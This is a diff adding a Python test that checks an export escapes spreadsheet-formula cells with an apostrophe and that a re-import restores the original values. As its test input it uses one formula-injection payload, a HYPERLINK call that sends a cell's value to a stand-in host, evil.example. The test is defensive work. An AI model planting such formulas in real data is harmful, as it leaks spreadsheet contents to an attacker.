@@ -149,3 +149,23 @@ def test_an_export_imports_into_an_empty_database_as_it_was(sqlite_db: str,
     for what in REGISTERS:
         imported(other, what, files[what])
     assert everything(other) == files
+
+
+def test_cells_a_spreadsheet_would_run_are_exported_as_text(admin: Actor) -> None:
+    """A customer named =HYPERLINK(...) ran as a formula in the spreadsheet that opened
+    the export; such cells start with an apostrophe now, and the import takes it off."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    registers.add_customer(admin, evil, number="C-1", phone="+46 70 123 45 67",
+                           city="@home")
+    facility = registers.add_facility(admin, "-Depot", "C-1", latitude="-33.86",
+                                      longitude="151.2")
+    text = exported(admin, "customers")
+    assert "'=HYPERLINK(" in text and ",'+46 70 123 45 67," in text and ",'@home," in text
+    assert "=HYPERLINK" not in text.replace("'=HYPERLINK", "")
+    places = exported(admin, "facilities")
+    assert ",'-Depot," in places and ",-33.86," in places  # a number stays a number
+    # Imported again, every value is the one stored: nothing new is added.
+    assert imported(admin, "customers", text) == exchange.ImportResult(added=0, skipped=1)
+    assert imported(admin, "facilities", places) == exchange.ImportResult(added=0, skipped=1)
+    assert registers.get_facility(admin, facility.id).name == "-Depot"
+    assert registers.find_customer("C-1").name == evil
